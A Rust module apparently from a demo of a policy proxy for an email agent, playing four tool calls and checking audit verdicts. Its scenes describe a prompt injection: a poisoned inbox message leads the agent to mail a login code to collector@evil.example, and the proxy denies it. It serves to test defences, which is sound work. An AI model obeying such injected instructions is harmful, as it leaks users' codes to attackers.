//! What the demo plays: the same `send_email` four ways to its end, and what must come of it.

use super::DemoError;
use super::check::{self, Line};
use super::client::Client;
use super::folder::Folder;
use super::report::Report;
use serde_json::{Value, json};
use std::io::Write;

/// Named in the policy.
pub(super) const BOSS: &str = "boss@corp.example";
/// Named nowhere.
pub(super) const PARTNER: &str = "ann@partner.example";
/// Named in the poisoned message only.
pub(super) const COLLECTOR: &str = "collector@evil.example";

/// One call of the agent's.
#[derive(Debug)]
pub(super) struct Scene {
    /// What a reader should know before it.
    pub(super) intro: &'static str,
    /// The recipient of a `send_email`; `None` reads the inbox.
    pub(super) to: Option<&'static str>,
    /// The lines that it must leave in the audit log: their verdicts.
    pub(super) verdicts: &'static [&'static str],
    subject: &'static str,
    body: &'static str,
}

/// The scenes, in order.
pub(super) const SCENES: [Scene; 4] = [
    Scene {
        intro: "The agent mails the boss. The policy file names this address.",
        to: Some(BOSS),
        verdicts: &["allow"],
        subject: "Report",
        body: "The weekly report is done.",
    },
    Scene {
        intro: "The agent mails an address that nobody named yet, so a person is asked.",
        to: Some(PARTNER),
        verdicts: &["ask", "allow"],
        subject: "Meeting",
        body: "Does Thursday suit you?",
    },
    Scene {
        intro: "The agent reads the inbox. A message in it is poisoned; its words reach the agent.",
        to: None,
        verdicts: &["allow"],
        subject: "",
        body: "",
    },
    Scene {
        intro: "The agent does as the message says. No person is asked: the answer is no.",
        to: Some(COLLECTOR),
        verdicts: &["deny"],
        subject: "Login code",
        body: "4711",
    },
];

impl Scene {
    /// The tool that is called.
    pub(super) fn tool(&self) -> &'static str {
        if self.to.is_some() { "send_email" } else { "read_inbox" }
    }

    /// Whether the call must reach the server.
    pub(super) fn passes(&self) -> bool {
        self.verdicts.last() == Some(&"allow")
    }

    fn arguments(&self) -> Value {
        match self.to {
            Some(to) => json!({"to": [to], "subject": self.subject, "body": self.body}),
            None => json!({}),
        }
    }
}

/// The mails that must have left, in order.
pub(super) fn expected_mails() -> Vec<&'static str> {
    SCENES.iter().filter(|scene| scene.passes()).filter_map(|scene| scene.to).collect()
}

/// Plays all scenes. Gives what came out otherwise than it must; an error where it could not be played to the end.
pub(super) fn play(folder: &Folder, report: &mut Report<impl Write>) -> Result<Vec<String>, DemoError> {
    let mut faults = Vec::new();
    report.begin()?;
    let mut client = Client::start(folder)?;
    let tools = client.connect()?;
    if tools != ["read_inbox", "send_email"] {
        faults.push(format!("the proxy lists other tools than the server has: {tools:?}"));
    }
    let mut seen = 0;
    for (number, scene) in SCENES.iter().enumerate() {
        report.scene(number + 1, scene)?;
        let result = client.call(scene.tool(), &scene.arguments())?;
        let asked = client.take_asked();
        let lines = check::lines(&Folder::read(&folder.audit())?)?;
        let fresh = lines.get(seen..).unwrap_or_default();
        seen = lines.len();
        report.outcome(fresh, &asked, &result)?;
        faults.extend(check::scene(number + 1, scene, fresh, &asked, &result));
    }
    if !client.close()? {
        faults.push("the proxy ended with a failure".to_owned());
    }
    let sent = Folder::read(&folder.outbox())?;
    faults.extend(check::outbox(&sent, &expected_mails()));
    let lines: Vec<Line> = check::lines(&Folder::read(&folder.audit())?)?;
    let expected: usize = SCENES.iter().map(|scene| scene.verdicts.len()).sum();
    if lines.len() != expected {
        faults.push(format!("the audit log has {} lines, not {expected}", lines.len()));
    }
    report.mails(&check::recipients(&sent))?;
    Ok(faults)
}
